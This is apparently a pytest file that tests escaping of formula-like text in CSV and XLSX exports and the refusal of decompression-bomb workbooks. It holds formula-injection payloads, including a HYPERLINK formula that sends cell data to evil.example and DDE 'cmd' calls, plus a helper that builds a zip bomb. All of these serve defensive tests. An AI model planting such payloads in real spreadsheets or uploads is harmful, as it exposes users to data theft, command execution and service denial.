"""The shared spreadsheet writer and reader (issue 14, findings 5 and 7): formula-like text leaves every
export as text, and a workbook that would expand into a decompression bomb is refused before openpyxl."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from approvals.service_layer.queries import render_csv, render_xlsx

from shared.tabular import ArchiveLimits, UnreadableFile, csv_stream, read_table, xlsx_stream

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def xlsx_cells(content: bytes) -> list[list[openpyxl.cell.cell.Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows()]


def test_formula_like_text_is_written_as_text_in_csv() -> None:
    body = b"".join(csv_stream(["姓名", "备注"], [[text, "普通文字"] for text in ATTACKS])).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + text for text in ATTACKS]
    assert all(r[1] == "普通文字" for r in rows[1:])


def test_formula_like_text_is_a_text_cell_in_xlsx_not_a_formula() -> None:
    content = b"".join(xlsx_stream("汇总表", ["姓名", "教龄"], [[text, 20] for text in ATTACKS]))
    cells = xlsx_cells(content)[1:]
    assert [c[0].data_type for c in cells] == ["s"] * len(ATTACKS)
    assert [c[0].value for c in cells] == ["'" + text for text in ATTACKS]
    assert all(c[1].value == 20 for c in cells)  # numbers stay numbers


def test_published_list_escapes_names_and_document_numbers() -> None:
    """名单公示 goes through the shared writer: a candidate's name cannot become a formula."""
    row = [1, "解放区第一实验小学", "4108020001", "=cmd|' /C calc'!A0", 1, "2022-11-01", None, "@焦教文〔2022〕88号"]
    lines = list(csv.reader(io.StringIO(render_csv([row]).decode("utf-8-sig"))))
    assert lines[1][3] == "'=cmd|' /C calc'!A0" and lines[1][7] == "'@焦教文〔2022〕88号"
    cells = xlsx_cells(render_xlsx([row], "名单公示"))[1]
    assert cells[3].data_type == "s" and cells[3].value == "'=cmd|' /C calc'!A0"
    assert cells[0].value == 1 and cells[6].value is None


def workbook(rows: int = 3) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["证书编号", "用户名"])
    for n in range(rows):
        sheet.append([f"CIO-{n}", f"user{n}"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_an_ordinary_workbook_is_read() -> None:
    header, rows = read_table(workbook(), "xlsx")
    assert header == ["证书编号", "用户名"] and [r for _, r in rows] == [
        ["CIO-0", "user0"],
        ["CIO-1", "user1"],
        ["CIO-2", "user2"],
    ]


def bomb(entry_bytes: int, entries: int = 1) -> bytes:
    """A valid workbook with extra parts of zeros: tiny on the wire, huge once inflated."""
    out = io.BytesIO(workbook())
    with zipfile.ZipFile(out, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        for n in range(entries):
            archive.writestr(f"xl/media/zeros{n}.bin", b"\0" * entry_bytes)
    return out.getvalue()


def test_a_highly_compressed_part_is_refused_as_a_decompression_bomb() -> None:
    content = bomb(20 * 1024 * 1024)
    assert len(content) < 100 * 1024  # 20 MiB of zeros deflate to about 20 KiB
    with pytest.raises(UnreadableFile, match="decompression bomb"):
        read_table(content, "xlsx")


def test_a_workbook_expanding_beyond_the_cap_is_refused() -> None:
    limits = ArchiveLimits(max_uncompressed_bytes=1024 * 1024, max_ratio=10_000)
    with pytest.raises(UnreadableFile, match="expands to more than 1 MiB"):
        read_table(bomb(2 * 1024 * 1024), "xlsx", limits)


def test_a_workbook_of_too_many_parts_is_refused() -> None:
    with pytest.raises(UnreadableFile, match="more than 500 parts"):
        read_table(bomb(10, entries=600), "xlsx")
